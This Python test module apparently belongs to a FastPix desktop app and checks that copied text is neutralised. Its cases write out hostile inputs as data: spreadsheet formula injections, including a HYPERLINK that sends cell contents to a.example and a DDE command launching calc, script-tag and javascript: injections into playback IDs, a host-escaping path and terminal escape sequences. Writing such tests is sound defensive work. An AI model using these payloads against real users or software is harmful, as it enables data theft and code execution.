"""Copies: texts that would do something where they are pasted."""

from typing import Any

from tests.hostile.case import Act, Case, Group, Outcome
from tests.hostile.cases.texts import everywhere
from tests.hostile.verdicts import check_copied


def _copy(name: str, what: str, media: dict[str, Any], **fields: Any) -> Case:
    return Case(
        name, Group.COPIES, what, media=lambda world: media, **{"acts": (Act.COPY,), "check": check_copied, **fields}
    )


def _starting(name: str, start: str, **fields: Any) -> Case:
    text = f'{start}HYPERLINK("https://a.example/?x="&A1,"Harbour")'
    return _copy(f"formula after {name}", f"every text begins with {name} and a formula", everywhere(text), **fields)


def check_embed(outcome: Outcome) -> None:
    """The embed code is one element, whatever the playback ID is."""
    check_copied(outcome)
    code = outcome.copied["COPY_EMBED"]["plain"]
    assert code.count("<") == 2, code


def check_links(outcome: Outcome) -> None:
    """Every copied address leads to FastPix or to this program."""
    check_copied(outcome)
    for forms in outcome.copied.values():
        for address in forms["addresses"].splitlines():
            assert address.startswith(("https://stream.fastpix.com/", "fastpix-desktop://media/")), address


def _playback(name: str, what: str, playback_id: str, **fields: Any) -> Case:
    return _copy(name, what, {"playbackIds": [{"id": playback_id, "accessPolicy": "public"}]}, **fields)


COPIES = (
    _starting("an equals sign", "=", quick=True),
    _starting("a plus sign", "+"),
    _starting("a minus sign", "-"),
    _starting("an at sign", "@"),
    _starting("a tab", "\t="),
    _starting("a line break", "\r\n="),
    _starting("a blank", " ="),
    _starting("a fullwidth equals sign", "＝"),
    _starting("a character without width", "\u200b\u2060\ufeff="),
    _starting("a quotation mark", '"='),
    _copy("a formula after a separator", "every text has a semicolon or a tab, and then a formula",
          everywhere("x;=1+41\t=1+41|=1+41")),
    _copy("a command", "every text starts a program in old spreadsheets",
          everywhere("=cmd|' /C calc'!A0")),
    _copy("quotes and line breaks", "every text has quotation marks and line breaks",
          everywhere('a",""b"\n"=1+41"\n=1+41')),
    _copy("markup in a copied row", "every text closes the copied table and begins another",
          everywhere("</td></tr></table><table><tr><td>=1+41</td></tr></table><img src=x>")),
    _copy("control characters in a copy", "every text has control characters and escape sequences",
          everywhere("a\x1b[2J\x07\x00\x9b31m")),
    _playback("line breaks in a playback ID", "the playback ID has line breaks and a second address",
              "abc\r\nhttps://a.example/x", quick=True),
    _playback("quotes in a playback ID", "the playback ID closes the attribute and the element",
              '"></fastpix-player><script src=x></script><i a="', check=check_embed),
    _playback("another host in a playback ID", "the playback ID leads out of its address",
              "../..//a.example/x?#@a.example", check=check_links),
    _playback("a script as a playback ID", "the playback ID is an address of its own", "javascript:alert(1)//",
              check=check_links),
)  # fmt: skip
"""Every copy."""
